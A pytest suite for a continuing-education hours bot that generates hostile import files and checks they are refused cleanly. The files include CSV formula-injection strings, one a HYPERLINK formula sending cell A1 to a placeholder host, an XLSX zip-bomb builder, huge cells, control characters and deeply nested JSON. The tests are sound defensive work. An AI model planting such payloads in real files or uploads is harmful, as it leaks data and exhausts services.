"""Issue 17, bad files (items 1, 5, 6, 7, 8 and two points of 21), replayed: every hostile
file is generated here, small on disk (that is the point of a bomb), and sent the way its
sender would send it: imported on the command line, or uploaded by an organiser in the bot.
Each test records what it tried in the faults ledger and asserts its own zeros: nothing
accepted was lost, nothing written twice, no internal error shown or logged."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import time
import zipfile
from collections.abc import Iterable, Iterator
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, update
from typer.testing import CliRunner

import services.imports as imports
from bot.flows import Engine, Event, IncomingFile
from cebot.cli import app
from core.idnumber import make_id_number
from core.uscc import make_unit_code
from services.context import AppContext
from services.imports import (
    ImportRaced,
    ImportRejected,
    check_hours_file,
    import_hours,
    import_people,
)
from services.loop_lag import watching_the_loop
from services.organiser_upload import MAX_UPLOAD_BYTES, UPLOAD_DIR
from services.privacy import notice
from services.question_bank import import_questions
from services.reports import unit_report, unit_report_csv, unit_report_xlsx
from services.tabular import TableError, read_table
from storage.models import Account, HourRecord, ImportBatch, Person, Unit
from tests.bot.conftest import HOSPITAL_CODE, Chat, seed_roster
from tests.claims.claims_helpers import ORGANISER_SOURCE, build_world, id_number_of
from tests.conftest import make_context

HOURS_HEADER = ["身份证号", "姓名", "年度", "科目", "课程编号", "课程名称", "学时", "完成日期"]
FORMULAS = ('=HYPERLINK("http://x/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1")
ORGANISER = "r0-organiser"
MB = 1024 * 1024


# ------------------------------------------------------------------ helpers


async def count(ctx: AppContext, model: type) -> int:
    async with ctx.db.transaction() as s:
        return int(await s.scalar(select(func.count()).select_from(model)) or 0)


def hours_row(
    seq: int, name: str = "王芳", title: str = "课堂观察方法", hours: str = "2"
) -> list[str]:
    return [id_number_of(seq), name, "2024", "专业科目", f"ZY-{seq}", title, hours, "2024-06-02"]


def write_csv(path: Path, header: list[str], rows: Iterable[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(header)
        w.writerows(rows)
    return path


def _cell(ref: str, value: str) -> bytes:
    text = value.replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def sheet_row(number: int, values: list[str]) -> bytes:
    cells = b"".join(_cell(f"{chr(65 + i)}{number}", v) for i, v in enumerate(values))
    return f'<row r="{number}">'.encode() + cells + b"</row>"


def hostile_xlsx(path: Path, body: Iterable[bytes], dimension: str | None = None) -> Path:
    """A real XLSX (openpyxl's own parts) whose first sheet is `body`, streamed into the ZIP:
    gigabytes of rows can be declared or deflated without holding them."""
    template = io.BytesIO()
    book = Workbook()
    assert book.active is not None
    book.active.append(["x"])
    book.save(template)
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + (f'<dimension ref="{dimension}"/>'.encode() if dimension else b"")
        + b"<sheetData>"
    )
    with (
        zipfile.ZipFile(template) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out,
    ):
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item.filename, src.read(item.filename))
                continue
            with out.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(head)
                for chunk in body:
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return path


def header_then(rows: Iterable[bytes]) -> Iterator[bytes]:
    yield sheet_row(1, HOURS_HEADER)
    yield from rows


def inflated(path: Path) -> int:
    with zipfile.ZipFile(path) as z:
        return sum(i.file_size for i in z.infolist())


class Tried:
    """The hostile inputs a test sent, and every answer it got (an internal error in any of
    them counts, not only in the last)."""

    def __init__(self) -> None:
        self.inputs = 0
        self.answers: list[str] = []

    def sent(self, answer: str = "") -> None:
        self.inputs += 1
        self.answers.append(answer)

    @property
    def internal_errors(self) -> int:
        return sum(internal_errors(a) for a in self.answers)


@pytest.fixture
def tried() -> Tried:
    return Tried()


@pytest.fixture
def small_cap(monkeypatch: pytest.MonkeyPatch) -> int:
    """1,000 rows allowed: the inflated-size limit is then its 16 MB floor, so a bomb can be
    made in a test's time (the default, 200,000 rows, allows about 300 MB)."""
    monkeypatch.setenv("CEBOT_IMPORT_MAX_ROWS", "1000")
    return 1000


@pytest.fixture
async def world(ctx: AppContext):  # type: ignore[no-untyped-def]
    made = await build_world(ctx)
    async with ctx.db.transaction() as s:
        await s.execute(
            update(Account)
            .where(Account.person_id.is_not(None))
            .values(consent_version=notice().version)
        )
    return made


async def upload(ctx: AppContext, content: bytes, name: str, tried: Tried | None = None) -> Chat:
    """An organiser sends `content` as a document in the bot and sees the preview."""
    organiser = Chat(Engine(ctx), ORGANISER)
    await organiser.send("/upload")

    async def fetch() -> bytes:
        return content

    organiser.last = await organiser.engine.handle(
        organiser.user,
        Event("file", file=IncomingFile("f-1", name, None, len(content), fetch=fetch)),
    )
    if tried is not None:
        tried.sent(organiser.text)
    return organiser


def confirm_offered(c: Chat) -> bool:
    return any("确认导入" in b.label for b in c.buttons())


def uploads_left(ctx: AppContext) -> int:
    folder = ctx.data_dir / UPLOAD_DIR
    return len(list(folder.iterdir())) if folder.is_dir() else 0


def internal_errors(text: str) -> int:
    return sum(text.count(s) for s in ("出了点问题", "内部错误", "Internal error", "Traceback"))


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)  # no stray .env
    monkeypatch.setenv("CEBOT_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.sqlite3'}")
    monkeypatch.setenv("CEBOT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("CEBOT_SECRET_KEY", "faults-test-secret")
    monkeypatch.setenv("CEBOT_LANGUAGE", "zh")
    monkeypatch.delenv("CEBOT_DEBUG", raising=False)
    monkeypatch.delenv("TELEGRAM_BOT_TOKEN", raising=False)
    return tmp_path


def cli(*args: str, tried: Tried | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args))
    out = result.stdout + result.stderr
    if tried is not None:
        tried.sent(out)
    return result.exit_code, out


# ------------------------------------------------------------------ 1. formula injection


async def test_formula_names_are_refused_at_import_and_binding(
    ctx: AppContext, tmp_path: Path, caplog: pytest.LogCaptureFixture, faults, tried: Tried
) -> None:
    caplog.set_level(logging.WARNING)
    roster = await seed_roster(ctx)
    people = write_csv(
        tmp_path / "people.csv",
        ["身份证号", "姓名", "单位代码"],
        [[id_number_of(100 + i), name, HOSPITAL_CODE] for i, name in enumerate(FORMULAS)],
    )
    with pytest.raises(ImportRejected) as roster_file:
        await import_people(ctx, people)
    assert [(p.line, p.reason) for p in roster_file.value.problems] == [
        (line, "text-formula") for line in range(2, 2 + len(FORMULAS))
    ]
    hours = write_csv(
        tmp_path / "hours.csv",
        HOURS_HEADER,
        [hours_row(200 + i, n) for i, n in enumerate(FORMULAS)],
    )
    with pytest.raises(ImportRejected) as hours_file:
        await import_hours(ctx, hours, source="某培训机构")
    assert {p.reason for p in hours_file.value.problems} == {"text-formula"}
    assert len(hours_file.value.problems) == len(FORMULAS)

    # typed by someone not in the roster, at binding: refused with the reason, asked again
    refused = 0
    for name in FORMULAS[:4]:  # a leading tab is typing noise the chat strips
        c = Chat(Engine(ctx), f"typist-{refused}")
        await c.start()
        await c.send(roster.stranger_number)
        await c.send(name)
        tried.sent(c.text)
        assert "姓名不能以 = + - @ 开头" in c.text
        refused += 1
    # and an honest name still binds the same way
    await c.send("李明")
    assert "统一社会信用代码" in c.text
    async with ctx.db.transaction() as s:
        names = set(await s.scalars(select(Person.name)))
    assert names == {"张伟"}
    tracebacks = faults.tracebacks_in(caplog.records) + tried.internal_errors
    faults.record(
        "1 formula injection",
        tried=len(roster_file.value.problems) + len(hours_file.value.problems) + refused,
        lost=0,
        tracebacks=tracebacks,
    )
    assert tracebacks == 0


async def test_reports_write_text_as_text_whatever_is_stored(
    ctx: AppContext, tmp_path: Path, faults, tried: Tried
) -> None:
    """Names stored before these checks (or by any other way in): the XLSX holds them as
    string cells, never formulas; the CSV neutralises the leading character; a character no
    sheet can hold does not break the unit's report (issue 17 items 1 and 6)."""
    await seed_roster(ctx)
    hostile = [*FORMULAS, "张\x01伟"]
    now = ctx.now()
    async with ctx.db.transaction() as s:
        unit = await s.scalar(select(Unit).where(Unit.code == HOSPITAL_CODE))
        assert unit is not None
        for i, name in enumerate(hostile):
            number = id_number_of(300 + i)
            s.add(
                Person(
                    id_hash=ctx.ids.lookup_hash(number),
                    id_cipher=ctx.ids.encrypt(number),
                    id_masked=number[:4] + "*" * 10 + number[-4:],
                    name=name,
                    unit_id=unit.id,
                    unit_confirmed=True,
                    created_at=now,
                    updated_at=now,
                )
            )
    report = await unit_report(ctx, 2024, unit=HOSPITAL_CODE, by=None)
    xlsx = unit_report_xlsx(report, tmp_path / "unit.xlsx")
    book = load_workbook(xlsx)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    live = [c for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    with unit_report_csv(report, tmp_path / "unit.csv").open(encoding="utf-8-sig") as f:
        csv_cells = [cell for row in csv.reader(f) for cell in row]
    leading = [c for c in csv_cells if c[:1] in ("=", "+", "-", "@", "\t")]
    # a name is lost when the report no longer shows it (as text, or with its apostrophe)
    lost_xlsx = [n for n in FORMULAS if n not in values]
    lost_csv = [n for n in FORMULAS if "'" + n not in csv_cells]
    lost_sheet = 0 if "张伟" in values else 1  # \x01 dropped, the name kept
    faults.record(
        "1 formula injection",
        tried=len(FORMULAS) * 2,
        lost=len(lost_xlsx) + len(lost_csv),
        tracebacks=len(live) + len(leading),  # a live formula is the failure itself
    )
    faults.record("6 character no sheet holds", tried=1, lost=lost_sheet)
    assert live == [] and leading == []  # no formula anywhere; apostrophes in the CSV
    assert lost_xlsx == lost_csv == [] and lost_sheet == 0


# ------------------------------------------------------------------ 5. size limits


async def test_a_zip_bomb_is_refused_before_it_is_parsed(
    ctx: AppContext,
    world,
    tmp_path: Path,
    small_cap: int,
    caplog: pytest.LogCaptureFixture,
    faults,
    tried: Tried,
) -> None:
    caplog.set_level(logging.WARNING)
    row = sheet_row(2, hours_row(1))
    bomb = hostile_xlsx(tmp_path / "bomb.xlsx", header_then(row * 2_000 for _ in range(60)))
    assert bomb.stat().st_size < 1 * MB < 32 * MB < inflated(bomb)
    started = time.perf_counter()
    with pytest.raises(TableError) as cli_side:
        tried.sent()
        read_table(bomb, {"x": ("身份证号",)})
    assert cli_side.value.reason == "inflated"
    assert time.perf_counter() - started < 2  # the ZIP directory only, never the rows

    organiser = await upload(ctx, bomb.read_bytes(), "bomb.xlsx", tried)
    assert "解压后有" in organiser.text and "超过上限 16 MB" in organiser.text
    assert not confirm_offered(organiser)
    assert await count(ctx, HourRecord) == 0 and await count(ctx, ImportBatch) == 0
    assert uploads_left(ctx) == 0
    tracebacks = faults.tracebacks_in(caplog.records) + tried.internal_errors
    faults.record("5 xlsx zip bomb", tried=tried.inputs, tracebacks=tracebacks)
    assert tracebacks == 0


async def test_three_million_rows_declared_and_a_huge_cell(
    ctx: AppContext, world, tmp_path: Path, caplog: pytest.LogCaptureFixture, faults, tried: Tried
) -> None:
    caplog.set_level(logging.WARNING)
    declared = hostile_xlsx(
        tmp_path / "declared.xlsx",
        header_then([sheet_row(2, hours_row(1))]),
        dimension="A1:H3000001",
    )
    organiser = await upload(ctx, declared.read_bytes(), "declared.xlsx", tried)
    assert "文件超过 200000 行的上限" in organiser.text and not confirm_offered(organiser)

    # a single cell of 400 MB inflated (1.5 GB ran the machine out of memory)
    def huge_cell() -> Iterator[bytes]:
        yield b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
        chunk = b"A" * (4 * MB)
        for _ in range(100):
            yield chunk
        yield b"</t></is></c></row>"

    huge = hostile_xlsx(tmp_path / "huge.xlsx", header_then(huge_cell()))
    assert huge.stat().st_size < MAX_UPLOAD_BYTES and inflated(huge) > 400 * MB
    organiser = await upload(ctx, huge.read_bytes(), "huge.xlsx", tried)
    assert "解压后有" in organiser.text and not confirm_offered(organiser)

    # a cell within the inflated size but longer than any column: refused with its line
    long_cell = hostile_xlsx(
        tmp_path / "long.xlsx",
        header_then([sheet_row(2, hours_row(1)), sheet_row(3, hours_row(2, title="题" * 40_000))]),
    )
    organiser = await upload(ctx, long_cell.read_bytes(), "long.xlsx", tried)
    assert "第 3 行有一个单元格超过 32767 个字" in organiser.text
    assert await count(ctx, HourRecord) == 0 and uploads_left(ctx) == 0
    tracebacks = faults.tracebacks_in(caplog.records) + tried.internal_errors
    faults.record("5 xlsx rows declared, huge cell", tried=tried.inputs, tracebacks=tracebacks)
    assert tracebacks == 0


def test_rows_beyond_the_cap_and_errors_beyond_the_list(
    tmp_path: Path, small_cap: int, cli_env: Path, faults, tried: Tried
) -> None:
    # more rows than allowed, and no <dimension> to say so: counted while reading
    no_dimension = hostile_xlsx(
        tmp_path / "many.xlsx",
        header_then(sheet_row(n, hours_row(n % 900 + 1)) for n in range(2, small_cap + 3)),
    )
    with pytest.raises(TableError) as too_many:
        tried.sent()
        read_table(no_dimension, {"name": ("姓名",)})
    assert too_many.value.reason == "too_many_rows"
    many_csv = write_csv(
        tmp_path / "many.csv", HOURS_HEADER, (hours_row(n % 900 + 1) for n in range(small_cap + 1))
    )
    with pytest.raises(TableError) as too_many_csv:
        tried.sent()
        read_table(many_csv, {"name": ("姓名",)})
    assert too_many_csv.value.reason == "too_many_rows"

    # 900 bad rows: the command line lists 50 of them, then how many more
    bad = write_csv(
        tmp_path / "bad.csv", HOURS_HEADER, (hours_row(n, hours="abc") for n in range(1, 901))
    )
    assert cli("db", "upgrade")[0] == 0
    code, out = cli("hours", "import", str(bad), "--source", "某培训机构", tried=tried)
    assert code == 1
    assert out.count("第 ") == 50 and "……以及另外 850 行有误" in out
    assert internal_errors(out) == 0
    faults.record("5 rows and errors capped", tried=tried.inputs, tracebacks=tried.internal_errors)


async def test_a_large_legitimate_file_never_stalls_the_bot(
    ctx: AppContext, world, tmp_path: Path, caplog: pytest.LogCaptureFixture, faults, tried: Tried
) -> None:
    """Read and checked in a worker process after the turn commits: the event loop is never
    blocked for as long as reading and checking the file takes (what it was blocked for when
    that ran inside the turn), measured here on the same bytes and the same machine."""
    caplog.set_level(logging.WARNING)
    rows = 10_000
    buffer = io.StringIO()
    w = csv.writer(buffer)
    w.writerow(HOURS_HEADER)
    for n in range(rows):
        w.writerow(
            [
                make_id_number("450103", date(1970 + n % 30, 1 + n % 12, 1 + n % 28), n % 997 + 1),
                "韦" + "新明华"[n % 3],
                "2024",
                "专业科目",
                f"ZY-{n}",
                f"课程{n % 40}",
                "2",
                "2024-06-02",
            ]
        )
    content = buffer.getvalue().encode()
    baseline = tmp_path / "big.csv"
    baseline.write_bytes(content)
    started = time.perf_counter()
    check_hours_file(baseline, ORGANISER_SOURCE, ctx)  # the same work on this loop
    on_the_loop = time.perf_counter() - started
    async with watching_the_loop() as lag:
        started = time.perf_counter()
        organiser = await upload(ctx, content, "big.csv", tried)
        took = time.perf_counter() - started
    assert "共 10000 行" in organiser.text and confirm_offered(organiser)
    assert lag.longest < on_the_loop, (lag.longest, on_the_loop, took)  # it answered all along
    await organiser.press("确认导入")
    assert await count(ctx, HourRecord) == rows
    lost = rows - await count(ctx, HourRecord)
    tried.sent(organiser.text)
    tracebacks = faults.tracebacks_in(caplog.records) + tried.internal_errors
    faults.record("5 large file off the event loop", tried=rows, lost=lost, tracebacks=tracebacks)
    assert lost == 0 and tracebacks == 0


# ------------------------------------------------------------------ 6. characters and lengths


async def test_control_characters_and_overlong_values_name_their_line(
    ctx: AppContext, world, tmp_path: Path, caplog: pytest.LogCaptureFixture, faults, tried: Tried
) -> None:
    caplog.set_level(logging.WARNING)
    rows = [
        hours_row(1),  # good
        hours_row(2, name="韦\x01新"),
        hours_row(3, name="韦\x00新"),
        hours_row(4, name="韦" * 150),
        hours_row(5, title="题" * 400),
        hours_row(6, name="韦\u202e新"),  # a direction override disguising the name
    ]
    path = write_csv(tmp_path / "hours.csv", HOURS_HEADER, rows)
    expected = [
        (3, "text-control"),
        (4, "text-control"),
        (5, "text-too_long"),
        (6, "text-too_long"),
        (7, "text-control"),
    ]
    with pytest.raises(ImportRejected) as rejected:
        tried.sent()
        await import_hours(ctx, path, source="某培训机构")
    assert [(p.line, p.reason) for p in rejected.value.problems] == expected
    # a 200,000-character field: its line, not "Internal error"
    field = write_csv(
        tmp_path / "field.csv", HOURS_HEADER, [hours_row(1), hours_row(2, title="题" * 200_000)]
    )
    with pytest.raises(TableError) as too_long:
        tried.sent()
        await import_hours(ctx, field, source="某培训机构")
    assert too_long.value.reason == "cell_too_long" and too_long.value.args_["line"] == 3

    # the same file in the bot: every line with its reason, nothing to confirm
    organiser = await upload(ctx, path.read_bytes(), "hours.csv", tried)
    assert "第 3 行：name 含有不允许的字符 U+0001" in organiser.text
    assert "第 4 行：name 含有不允许的字符 U+0000" in organiser.text
    assert "第 5 行：name 超过 50 个字" in organiser.text
    assert "第 6 行：course_title 超过 300 个字" in organiser.text
    assert not confirm_offered(organiser)
    organiser = await upload(ctx, field.read_bytes(), "field.csv", tried)
    assert "第 3 行有一个单元格超过 32767 个字" in organiser.text
    assert await count(ctx, HourRecord) == 0 and await count(ctx, ImportBatch) == 0
    tracebacks = faults.tracebacks_in(caplog.records) + tried.internal_errors
    faults.record(
        "6 control characters, over-long values",
        tried=len(rejected.value.problems) * 2 + 2,  # each bad row by the CLI and the bot
        tracebacks=tracebacks,
    )
    assert tracebacks == 0


# ------------------------------------------------------------------ 7. unknown unit


async def test_an_unknown_unit_is_refused_by_line_in_the_bot(
    ctx: AppContext, world, caplog: pytest.LogCaptureFixture, faults, tried: Tried
) -> None:
    caplog.set_level(logging.WARNING)
    known = make_unit_code("12450000MB0000009")
    unknown = make_unit_code("12450000MB0000008")
    async with ctx.db.transaction() as s:
        s.add(Unit(code=known, name="南宁市第九中学", city="南宁", created_at=ctx.now()))
    header = ",".join([*HOURS_HEADER, "单位代码"]) + "\n"
    lines = [
        ",".join([*hours_row(81, name="韦一"), known]),
        ",".join([*hours_row(82, name="韦二"), unknown]),
    ]
    organiser = await upload(ctx, (header + "\n".join(lines) + "\n").encode(), "units.csv", tried)
    assert f"第 3 行：单位代码 {unknown} 未登记" in organiser.text
    assert not confirm_offered(organiser)
    people_before = await count(ctx, Person)
    # corrected: the person joins the registered unit, unconfirmed until its reviewer says so
    organiser = await upload(ctx, (header + lines[0] + "\n").encode(), "units.csv", tried)
    await organiser.press("确认导入")
    tried.sent(organiser.text)
    async with ctx.db.transaction() as s:
        person = await s.scalar(
            select(Person).where(Person.id_hash == ctx.ids.lookup_hash(id_number_of(81)))
        )
        unit_id = await s.scalar(select(Unit.id).where(Unit.code == known))
    assert person is not None and person.unit_id == unit_id and person.unit_confirmed is False
    lost = people_before + 1 - await count(ctx, Person)  # the corrected file's one person
    tracebacks = faults.tracebacks_in(caplog.records) + tried.internal_errors
    faults.record("7 unknown unit", tried=tried.inputs, lost=lost, tracebacks=tracebacks)
    assert lost == 0
    assert tracebacks == 0


def test_an_unknown_unit_fails_the_command_line(cli_env: Path, faults, tried: Tried) -> None:
    known = make_unit_code("12450000MB0000009")
    unknown = make_unit_code("12450000MB0000008")
    units = write_csv(
        cli_env / "units.csv", ["单位代码", "单位名称", "地市"], [[known, "九中", "南宁"]]
    )
    hours = write_csv(
        cli_env / "hours.csv",
        [*HOURS_HEADER, "单位代码"],
        [[*hours_row(81, name="韦一"), known], [*hours_row(82, name="韦二"), unknown]],
    )
    assert cli("db", "upgrade")[0] == 0
    assert cli("units", "import", str(units))[0] == 0
    code, out = cli("hours", "import", str(hours), "--source", "某培训机构", tried=tried)
    faults.record("7 unknown unit", tried=tried.inputs, tracebacks=tried.internal_errors)
    assert code == 1
    assert f"第 3 行：单位代码 {unknown} 未登记" in out and tried.internal_errors == 0


# ------------------------------------------------------------------ 8. races and nesting


async def test_two_imports_of_one_file_at_once(
    database_url: str,
    tmp_path: Path,
    fixed_now,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    faults,
    tried: Tried,
) -> None:
    if database_url.startswith("sqlite"):
        pytest.skip("SQLite runs one writer at a time: the race needs PostgreSQL")
    caplog.set_level(logging.WARNING)
    rows = 40
    path = write_csv(
        tmp_path / "hours.csv", HOURS_HEADER, (hours_row(n) for n in range(1, rows + 1))
    )
    # two processes' contexts on the same database, both past their look-ups before either
    # writes: the race as it happens, every time
    first = make_context(database_url, tmp_path / "a", fixed_now)
    second = make_context(database_url, tmp_path / "b", fixed_now)
    barrier = asyncio.Barrier(2)
    original = imports._person_refs_by_hash
    paused = 0

    async def look_up_then_wait(session, hashes):  # type: ignore[no-untyped-def]
        nonlocal paused
        found = await original(session, hashes)
        if paused < 2:
            paused += 1
            await asyncio.wait_for(barrier.wait(), 20)
        return found

    monkeypatch.setattr(imports, "_person_refs_by_hash", look_up_then_wait)
    try:
        results = await asyncio.gather(
            import_hours(first, path, source="某培训机构"),
            import_hours(second, path, source="某培训机构"),
            return_exceptions=True,
        )
        raced = [r for r in results if isinstance(r, ImportRaced)]
        done = [r for r in results if not isinstance(r, BaseException)]
        others = [r for r in results if isinstance(r, BaseException) and r not in raced]
        assert len(raced) == 1 and len(done) == 1 and not others, results
        assert done[0].added == rows
        stored = await count(first, HourRecord)
        # run again, as the loser is told: nothing added twice
        again = await import_hours(second, path, source="某培训机构")
        assert again.added == 0 and await count(first, HourRecord) == rows
        assert await count(first, ImportBatch) == 2
    finally:
        await first.db.dispose()
        await second.db.dispose()
    tracebacks = faults.tracebacks_in(caplog.records)
    faults.record(
        "8 concurrent imports",
        tried=len(results),
        injected=paused // 2,  # both held at the barrier: one race forced
        lost=rows - stored,
        duplicated=stored - rows,
        tracebacks=tracebacks,
    )
    assert stored == rows and tracebacks == 0


def test_the_loser_of_a_race_is_told_to_run_it_again(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch, faults, tried: Tried
) -> None:
    async def lost_the_race(*args: object, **kwargs: object) -> None:
        raise ImportRaced()

    path = write_csv(cli_env / "hours.csv", HOURS_HEADER, [hours_row(1)])
    assert cli("db", "upgrade")[0] == 0
    monkeypatch.setattr("cebot.cli.import_hours", lost_the_race)
    code, out = cli("hours", "import", str(path), "--source", "某培训机构", tried=tried)
    faults.record("8 concurrent imports", tried=tried.inputs, tracebacks=tried.internal_errors)
    assert code == 1 and "同一文件的另一次导入先完成了" in out and "请再运行一次" in out
    assert tried.internal_errors == 0


def nested_json(path: Path) -> Path:
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    return path


async def test_deeply_nested_json_question_file(
    ctx: AppContext, tmp_path: Path, caplog: pytest.LogCaptureFixture, faults, tried: Tried
) -> None:
    caplog.set_level(logging.WARNING)
    with pytest.raises(TableError) as exc:
        tried.sent()
        await import_questions(ctx, nested_json(tmp_path / "questions.json"))
    assert exc.value.reason == "json_depth"
    tracebacks = faults.tracebacks_in(caplog.records)
    faults.record("8 nested JSON question file", tried=tried.inputs, tracebacks=tracebacks)
    assert tracebacks == 0


def test_deeply_nested_json_on_the_command_line(cli_env: Path, faults, tried: Tried) -> None:
    assert cli("db", "upgrade")[0] == 0
    code, out = cli(
        "questions", "import", str(nested_json(cli_env / "questions.json")), tried=tried
    )
    faults.record(
        "8 nested JSON question file", tried=tried.inputs, tracebacks=tried.internal_errors
    )
    assert code == 1 and "JSON 嵌套层数过多" in out and tried.internal_errors == 0


# ------------------------------------------------------------------ 21. organisers' files


async def test_negative_hours_and_a_file_sent_twice(
    ctx: AppContext, world, caplog: pytest.LogCaptureFixture, faults, tried: Tried
) -> None:
    caplog.set_level(logging.WARNING)
    header = ",".join(HOURS_HEADER) + "\n"
    negative = header + ",".join(hours_row(1, hours="-4")) + "\n"
    organiser = await upload(ctx, negative.encode(), "neg.csv", tried)
    assert "第 2 行：学时必须大于0" in organiser.text and "不是数字" not in organiser.text
    good = (header + ",".join(hours_row(1)) + "\n").encode()
    organiser = await upload(ctx, good, "good.csv", tried)
    await organiser.press("确认导入")
    tried.sent(organiser.text)
    organiser = await upload(ctx, good, "good-again.csv", tried)
    assert "已于 2024-11-20 10:00 导入过（共 1 行，新增 1 条）" in organiser.text
    assert not confirm_offered(organiser)
    assert await count(ctx, HourRecord) == 1 and await count(ctx, ImportBatch) == 1
    duplicated = await count(ctx, HourRecord) - 1
    tracebacks = faults.tracebacks_in(caplog.records) + tried.internal_errors
    faults.record(
        "21 organiser's file: -4 hours, sent twice",
        tried=tried.inputs,
        duplicated=duplicated,
        tracebacks=tracebacks,
    )
    assert duplicated == 0
    assert tracebacks == 0
